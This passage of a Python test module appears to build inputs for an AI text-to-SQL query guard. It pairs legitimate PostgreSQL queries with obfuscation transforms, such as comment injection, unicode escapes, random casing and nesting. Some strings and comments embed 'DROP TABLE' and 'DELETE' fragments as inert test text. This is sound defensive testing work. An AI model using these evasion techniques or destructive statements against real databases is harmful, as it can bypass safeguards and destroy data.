    "SELECT split_part(email, '@', 2) AS domain, count(*) FROM customers GROUP BY 1",
    "SELECT regexp_replace(name, '\\s+', ' ', 'g') FROM customers",
    "SELECT left(name, 1) AS initial, count(*) FROM customers GROUP BY 1",
    "SELECT concat_ws(', ', city, region, country) FROM stores",
    "SELECT format('%s (%s)', name, country) FROM customers",
    "SELECT string_agg(name, ', ' ORDER BY name) FROM customers WHERE region = 'EMEA'",
    "SELECT array_agg(DISTINCT category) FROM products",
    "SELECT id, unnest(tags) AS tag FROM customers",
    "SELECT tag, count(*) FROM customers, unnest(tags) AS tag GROUP BY tag",
    "SELECT * FROM customers WHERE 'vip' = ANY (tags)",
    "SELECT * FROM customers WHERE tags && ARRAY['vip', 'gold']",
    "SELECT cardinality(tags), array_length(tags, 1) FROM customers",
    "SELECT * FROM unnest(ARRAY[1, 2, 3]) WITH ORDINALITY AS t(v, i)",
    "SELECT * FROM ROWS FROM (generate_series(1, 3), unnest(ARRAY['a', 'b'])) AS t(n, s)",
    "SELECT CASE WHEN amount > 100 THEN 'big' WHEN amount > 10 THEN 'medium' ELSE 'small' END AS size, "
    "count(*) FROM sales GROUP BY 1",
    "SELECT coalesce(discount, 0), nullif(status, ''), greatest(amount, 0), least(amount, 1000) FROM sales",
    "SELECT * FROM sales WHERE status IN ('paid', 'shipped') AND amount IS NOT NULL",
    "SELECT * FROM sales WHERE customer_id NOT IN (SELECT id FROM customers WHERE region = 'APAC')",
    "SELECT * FROM customers c WHERE EXISTS (SELECT 1 FROM sales s WHERE s.customer_id = c.id)",
    "SELECT * FROM customers c WHERE NOT EXISTS (SELECT 1 FROM sales s WHERE s.customer_id = c.id)",
    "SELECT c.name, (SELECT count(*) FROM sales s WHERE s.customer_id = c.id) AS orders FROM customers c",
    "SELECT * FROM sales WHERE amount > (SELECT avg(amount) FROM sales)",
    "SELECT * FROM sales WHERE amount > ALL (SELECT amount FROM returns r JOIN sales s2 ON s2.id = r.sale_id)",
    "SELECT s.id FROM sales s FULL OUTER JOIN returns r ON r.sale_id = s.id WHERE r.id IS NULL",
    "SELECT * FROM sales s RIGHT JOIN stores st USING (store_id)",
    "SELECT * FROM sales NATURAL JOIN stores",
    "SELECT e.name, m.name AS manager FROM employees e LEFT JOIN employees m ON m.id = e.manager_id",
    "SELECT * FROM sales s, customers c WHERE s.customer_id = c.id AND c.country = 'FR'",
    "SELECT round(avg(amount), 2), ceil(max(amount)), floor(min(amount)), abs(sum(discount)) FROM sales",
    "SELECT sqrt(sum(amount * amount)), power(2, 10), ln(10), log(100), exp(1), mod(7, 3) FROM sales",
    "SELECT random() < 0.1 AS sampled, id FROM customers",
    "SELECT * FROM sales TABLESAMPLE BERNOULLI (10)",
    "SELECT * FROM sales TABLESAMPLE SYSTEM (5) REPEATABLE (42)",
    "SELECT bool_and(amount > 0), bool_or(status = 'void'), every(quantity > 0) FROM sales",
    "SELECT count(DISTINCT customer_id), approx.n FROM sales, (SELECT count(*) n FROM customers) approx GROUP BY approx.n",
    "SELECT x.* FROM (SELECT id, amount FROM sales ORDER BY amount DESC LIMIT 100) x ORDER BY id",
    "SELECT * FROM sales ORDER BY amount DESC NULLS LAST OFFSET 10 LIMIT 10",
    "SELECT * FROM sales ORDER BY sold_at FETCH FIRST 5 ROWS ONLY",
    "SELECT * FROM sales ORDER BY amount DESC FETCH FIRST 3 ROWS WITH TIES",
    "SELECT now(), current_date, current_timestamp, localtimestamp, current_user",
    "SELECT 'DROP TABLE sales; DELETE FROM x' AS harmless_text",
    "SELECT id /* DELETE FROM sales */ FROM sales -- ; DROP TABLE sales",
    "SELECT \"delete\", \"update\" FROM (SELECT 1 AS \"delete\", 2 AS \"update\") t",
    "SELECT id AS insert_count, 'pg_sleep(1)' AS note FROM sales",
    "SELECT $$literal with 'quotes' and ; semicolons$$ AS t",
    "SELECT E'tab\\tseparated' AS t, 'back\\slash' AS u",
    "SELECT U&'d\\0061t\\+000061' AS t",
    "SELECT name COLLATE \"C\" FROM customers ORDER BY 1",
    "SELECT to_tsvector('english', body) @@ to_tsquery('english', 'refund & late') FROM returns",
    "SELECT ts_rank(to_tsvector(reason), plainto_tsquery('damaged box')) FROM returns ORDER BY 1 DESC",
    "SELECT id, reason FROM returns WHERE reason IS DISTINCT FROM 'other'",
    "SELECT id FROM returns WHERE refund IS NOT DISTINCT FROM 0",
    "SELECT int4range(1, 10) @> 5, daterange(date '2024-01-01', date '2024-02-01') && daterange(date '2024-01-15', NULL)",
    "SELECT make_date(2024, 1, 1), make_interval(days => 3), justify_interval(interval '40 days')",
    "SELECT to_date('2024-03-01', 'YYYY-MM-DD'), to_timestamp(0), to_number('12,345', '99G999')",
    "SELECT id, sold_at AT TIME ZONE 'UTC' FROM sales",
    "SELECT (sold_at, sold_at + interval '1 day') OVERLAPS (now(), now()) FROM sales",
    "SELECT substring(name FROM 1 FOR 3), position('a' IN name), trim(BOTH ' ' FROM name), overlay(name PLACING 'x' FROM 1) FROM customers",
    "SELECT md5(email), sha256(convert_to(email, 'UTF8')) FROM customers",
    "SELECT encode(sha256(email::bytea), 'hex') FROM customers",
    "SELECT gen_random_uuid(), pg_typeof(amount) FROM sales LIMIT 1",
    "SELECT xmlelement(name customer, xmlattributes(id AS id), name) FROM customers",
    "SELECT xpath('/a/text()', '<a>x</a>'::xml)",
    "SELECT * FROM XMLTABLE('/rows/row' PASSING CAST('<rows><row><a>1</a></row></rows>' AS xml) COLUMNS a int PATH 'a') x",
    "SELECT row_to_json(c) FROM customers c",
    "SELECT ROW(id, name) FROM customers",
    "SELECT (SELECT max(amount) FROM sales) - (SELECT min(amount) FROM sales)",
    "SELECT ARRAY(SELECT id FROM customers ORDER BY id LIMIT 3)",
    "SELECT tags[1], tags[2:3] FROM customers",
    "SELECT s.amount * (1 - coalesce(s.discount, 0)) AS net FROM sales s",
    "SELECT count(*) OVER () AS total, id FROM sales LIMIT 10",
    "TABLE customers",
    "SELECT * FROM public.sales",
    "SELECT * FROM shop.orders o JOIN shop.order_items i ON i.order_id = o.id",
    "SELECT p.name, sum(s.quantity) FROM sales s JOIN products p ON p.id = s.product_id "
    "WHERE p.launched_on > current_date - 365 GROUP BY p.name HAVING sum(s.quantity) > 10",
    "SELECT st.city, count(DISTINCT s.customer_id) FROM stores st JOIN sales s ON s.store_id = st.id GROUP BY st.city",
    "SELECT e.title, avg(e.salary), max(e.salary) - min(e.salary) AS spread FROM employees e GROUP BY e.title",
    "SELECT e.name, e.salary, e.salary - avg(e.salary) OVER (PARTITION BY e.store_id) AS diff FROM employees e",
    "SELECT name, age FROM people WHERE city = 'Lyon' ORDER BY age",
    "SELECT g.name, count(*) AS medals FROM gymnast g GROUP BY g.name ORDER BY medals DESC",
    "SELECT p.name FROM people p WHERE p.age > (SELECT avg(age) FROM people)",
    "SELECT any_value(city), country FROM stores GROUP BY country",
    "SELECT c.country, count(*) FROM customers c GROUP BY DISTINCT ROLLUP (c.country), CUBE (c.region)",
    "WITH a AS (SELECT 1 AS x), b AS (SELECT x + 1 AS y FROM a) SELECT * FROM a, b",
    "WITH a AS NOT MATERIALIZED (SELECT * FROM sales) SELECT count(*) FROM a",
    "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) "
    "SEARCH DEPTH FIRST BY n SET ord SELECT * FROM t ORDER BY ord",
    "WITH RECURSIVE g(id, parent) AS (SELECT id, manager_id FROM employees UNION ALL SELECT e.id, g.parent "
    "FROM employees e JOIN g ON g.id = e.manager_id) CYCLE id SET is_cycle USING path SELECT * FROM g",
    "SELECT num_nulls(discount, status), num_nonnulls(discount, status) FROM sales",
    "SELECT id FROM sales WHERE amount::text ~ '^[0-9]+\\.[0-9]{2}$'",
    "SELECT date_part('dow', sold_at) AS dow, avg(amount) FROM sales GROUP BY 1 ORDER BY 1",
    "SELECT generate_series(1, 3) AS n",
    "SELECT x FROM (SELECT 1 AS x UNION ALL SELECT 2 UNION ALL SELECT 3) t WHERE x % 2 = 1",
    "SELECT 1 WHERE false",
    "SELECT NULL::int AS nothing",
    "SELECT count(*) FROM customers WHERE created_at::date = current_date - 1",
    "SELECT id, amount FROM sales WHERE amount = ANY (ARRAY[10, 20, 30])",
    "SELECT jsonb_set(attrs, '{color}', '\"blue\"') FROM products",
    "SELECT attrs - 'color', attrs || '{\"new\": 1}'::jsonb FROM products",
    "SELECT json_build_array(id, name) FROM customers",
    "SELECT * FROM jsonb_to_recordset('[{\"a\": 1}]'::jsonb) AS x(a int)",
    "SELECT * FROM json_populate_recordset(NULL::customers, '[]')",
    "SELECT * FROM json_table('[{\"a\": 1}]'::jsonb, '$[*]' COLUMNS (a int PATH '$.a')) jt",
    "SELECT JSON_OBJECT('a': 1), JSON_ARRAY(1, 2), '{}' IS JSON OBJECT",
    "SELECT JSON_VALUE(attrs, '$.color'), JSON_QUERY(attrs, '$.sizes'), JSON_EXISTS(attrs, '$.x') FROM products",
    "SELECT 2 ^ 10, 7 / 2, 7 % 2, |/ 16.0, ||/ 27.0",
    "SELECT 'a' || 'b', B'101' & B'011', X'FF'::int",
    "SELECT id FROM sales s WHERE (s.customer_id, s.store_id) IN (SELECT id, 1 FROM customers)",
    "SELECT count(*) FROM (SELECT DISTINCT customer_id, store_id FROM sales) t",
]


def _legit_generated():
    joins = {
        "c": "JOIN customers c ON c.id = s.customer_id",
        "p": "JOIN products p ON p.id = s.product_id",
        "st": "JOIN stores st ON st.id = s.store_id",
        "": "",
    }
    dims = [("c.region", "c"), ("c.country", "c"), ("p.category", "p"), ("st.city", "st"),
            ("date_trunc('month', s.sold_at)", ""), ("extract(year FROM s.sold_at)", ""),
            ("s.channel", ""), ("c.segment", "c"), ("to_char(s.sold_at, 'YYYY-MM')", ""),
            ("s.meta->>'campaign'", ""), ("p.attrs->>'brand'", "p"), ("st.region", "st")]
    measures = ["sum(s.amount)", "avg(s.amount)", "count(*)", "count(DISTINCT s.customer_id)",
                "max(s.sold_at)", "min(s.amount)", "sum(s.quantity)",
                "percentile_cont(0.5) WITHIN GROUP (ORDER BY s.amount)", "stddev_samp(s.amount)",
                "sum(s.amount) FILTER (WHERE s.status = 'paid')", "round(avg(s.quantity), 1)",
                "sum(s.amount * coalesce(1 - s.discount, 1))"]
    out = []
    for i, (dim, j) in enumerate(dims):
        for k, m in enumerate(measures):
            if (i + k) % 3 == 0:
                continue
            order = "DESC" if (i + k) % 2 else "ASC"
            out.append(f"SELECT {dim} AS dim, {m} AS val FROM sales s {joins[j]} "
                       f"GROUP BY 1 ORDER BY 2 {order} LIMIT {10 + i}".replace("  ", " "))
    windows = ["row_number()", "rank()", "dense_rank()", "lag(s.amount)", "lead(s.amount)",
               "sum(s.amount)", "avg(s.amount)", "count(*)"]
    parts = ["s.customer_id", "s.store_id", "s.channel", "s.product_id", "date_trunc('week', s.sold_at)"]
    for i, w in enumerate(windows):
        for k, part in enumerate(parts):
            out.append(f"SELECT s.id, s.amount, {w} OVER (PARTITION BY {part} ORDER BY s.sold_at) AS w "
                       f"FROM sales s WHERE s.amount > {i * 5 + k}")
    return out


def legit() -> list[str]:
    return LEGIT_HANDWRITTEN + _legit_generated()


# --- obfuscation transforms ---------------------------------------------------


class _Toks:
    """A statement split by PostgreSQL's lexer into tokens and the gaps between them."""

    def __init__(self, sql: str):
        self.sql = sql
        # Comments stay in the gaps, so a transform never separates "--" from its newline.
        self.toks = [t for t in pgparser.scan(sql) if t.name not in ("SQL_COMMENT", "C_COMMENT")]

    def rebuild(self, text_of=None, gap_of=None) -> str:
        out, last = [], 0
        for i, t in enumerate(self.toks):
            gap = self.sql[last:t.start]
            out.append(gap_of(i, gap) if gap_of else gap)
            raw = self.sql[t.start:t.end + 1]
            out.append(text_of(i, t, raw) if text_of else raw)
            last = t.end + 1
        out.append(self.sql[last:])
        return "".join(out)

    def raw(self, i):
        t = self.toks[i]
        return self.sql[t.start:t.end + 1]


def _is_plain_ident(t, raw):
    return t.name == "IDENT" and not raw.startswith('"') and not raw.lower().startswith('u&')


def _is_word(t, raw):
    return (t.kind != "NO_KEYWORD" or _is_plain_ident(t, raw)) and raw[:1].isalpha() \
        and not raw.lower().startswith(("u&", "e'", "b'", "x'", "n'"))


def t_random_case(sql, rng):
    tk = _Toks(sql)
    return tk.rebuild(lambda i, t, raw: "".join(c.upper() if rng.random() < .5 else c.lower()
                                                for c in raw) if _is_word(t, raw) else raw)


def t_block_comments(sql, rng):
    tk = _Toks(sql)
    return tk.rebuild(gap_of=lambda i, gap: f"{gap}/*{rng.choice(['', 'x', ' DROP TABLE t; ', '*', 'c/*n*/'])}*/"
                      if i and rng.random() < .6 else gap)


def t_line_comments(sql, rng):
    tk = _Toks(sql)
    return tk.rebuild(gap_of=lambda i, gap: f" --{rng.choice(['', ' x', ' ; DELETE', '/*'])}\n"
                      if i and rng.random() < .5 else gap)


_WS = [" ", "\n", "\t", "\r\n", "  \n\t ", "\f", "\n\n    "]


def t_whitespace(sql, rng):
    tk = _Toks(sql)
    return "\n\t " + tk.rebuild(gap_of=lambda i, gap: rng.choice(_WS) if gap and not _has_comment(gap)
                                 else gap) + " \n"


def _has_comment(gap):
    return "--" in gap or "/*" in gap


_PUNCT = set("(),;[]")


def t_compact(sql, rng):
    tk = _Toks(sql)

    def gap(i, g):
        if not g or i == 0 or _has_comment(g):
            return g
        if tk.raw(i - 1) in _PUNCT or tk.raw(i) in _PUNCT:
            return ""
        return " "
    return tk.rebuild(gap_of=gap)


def t_quote_idents(sql, rng):
    tk = _Toks(sql)
    return tk.rebuild(lambda i, t, raw: f'"{raw.lower()}"' if _is_plain_ident(t, raw) else raw)


def _uescape(name, rng, every=False):
    out = []
    for c in name:
        if every or rng.random() < .5:
            out.append("\\%04x" % ord(c))
        elif c == "\\":
            out.append("\\\\")
        else:
            out.append(c)
    return "".join(out)


def t_unicode_idents(sql, rng, skip_functions=False):
    tk = _Toks(sql)

    def text(i, t, raw):
        if not _is_plain_ident(t, raw):
            return raw
        if skip_functions and i + 1 < len(tk.toks) and tk.raw(i + 1) in ("(", "."):
            return raw
        return 'U&"' + _uescape(raw.lower(), rng) + '"'
    return tk.rebuild(text)


_FUNC_NAMES = None


def _function_names():
    global _FUNC_NAMES
    if _FUNC_NAMES is None:
        from dbms_cloud_ai.nl2sql.sqlguard import ALLOWED_FUNCTIONS
        names = set(ALLOWED_FUNCTIONS)
        for call in FORBIDDEN_CALLS:
            head = call.split("(")[0]
            if "." not in head:
                names.add(head.lower())
        _FUNC_NAMES = names
    return _FUNC_NAMES


def t_pg_catalog(sql, rng):
    tk = _Toks(sql)
    names = _function_names()

    def text(i, t, raw):
        if not _is_plain_ident(t, raw) or raw.lower() not in names:
            return raw
        if i + 1 >= len(tk.toks) or tk.raw(i + 1) != "(":
            return raw
        if i and tk.raw(i - 1) == ".":
            return raw
        return "pg_catalog." + raw
    return tk.rebuild(text)


def _string_value(raw):
    if raw.startswith("'") and raw.endswith("'"):
        return raw[1:-1].replace("''", "'")
    return None


def t_dollar_strings(sql, rng):
    tk = _Toks(sql)

    def text(i, t, raw):
        v = _string_value(raw) if t.name == "SCONST" else None
        if v is None or "\\" in v or "$" in v:
            return raw
        tag = rng.choice(["", "q", "x_1", "SQL"])
        return f"${tag}${v}${tag}$"
    return tk.rebuild(text)


def t_escape_strings(sql, rng):
    tk = _Toks(sql)

    def text(i, t, raw):
        v = _string_value(raw) if t.name == "SCONST" else None
        if v is None:
            return raw
        if "\\" in v:  # a plain literal with a backslash: keep its value exactly
            return "E'" + v.replace("\\", "\\\\").replace("'", "\\'") + "'"
        if rng.random() < .5:
            return "E'" + "".join("\\x%02x" % ord(c) if ord(c) < 128 and rng.random() < .6
                                  else ("\\'" if c == "'" else c) for c in v) + "'"
        return "U&'" + _uescape(v, rng).replace("'", "''") + "'"
    return tk.rebuild(text)


def _strip(sql):
    """The statement without its trailing semicolon, ending on a new line (for -- comments)."""
    return sql.strip().rstrip(";").strip() + "\n"


def t_nest_subquery(sql, rng):
    return f"SELECT * FROM ({_strip(sql)}) AS q{rng.randint(0, 99)}"


def t_nest_cte(sql, rng):
    return f"WITH w AS ({_strip(sql)}) SELECT * FROM w"


def t_nest_lateral(sql, rng):
    return f"SELECT q.* FROM customers c CROSS JOIN LATERAL ({_strip(sql)}) AS q"


def t_nest_exists(sql, rng):
    return f"SELECT 1 WHERE EXISTS ({_strip(sql)})"


def t_wrap_junk(sql, rng):
    return f"/* {rng.choice(['q', 'SELECT 1;'])} */ {_strip(sql)} ; -- trailing"


TRANSFORMS = {
    "random_case": t_random_case,
    "block_comments": t_block_comments,
    "line_comments": t_line_comments,
    "whitespace": t_whitespace,
    "compact": t_compact,
    "quote_idents": t_quote_idents,
    "unicode_idents": t_unicode_idents,
    "pg_catalog": t_pg_catalog,
    "dollar_strings": t_dollar_strings,
    "escape_strings": t_escape_strings,
    "nest_subquery": t_nest_subquery,
    "nest_cte": t_nest_cte,
    "nest_lateral": t_nest_lateral,
    "nest_exists": t_nest_exists,
    "wrap_junk": t_wrap_junk,
}

# Transforms that keep a legitimate query's parse tree (nesting changes it).
SPELLING_TRANSFORMS = ["random_case", "block_comments", "line_comments", "whitespace",
                       "compact", "quote_idents", "unicode_idents", "pg_catalog",
                       "dollar_strings", "escape_strings", "wrap_junk"]


def obfuscated(sql: str, seed: int, combos: int = 2):
    """Yield (transform name, text) for every transform, then random compositions."""
    rng = random.Random(seed)
    for name, fn in TRANSFORMS.items():
        yield name, fn(sql, rng)
    spelling = [TRANSFORMS[n] for n in SPELLING_TRANSFORMS]
    for _ in range(combos):
        chain = rng.sample(spelling, 3)
        text = sql
        try:
            for fn in chain:
                text = fn(text, rng)
        except pgparser.ParseError:
            continue
        yield "+".join(fn.__name__[2:] for fn in chain), text
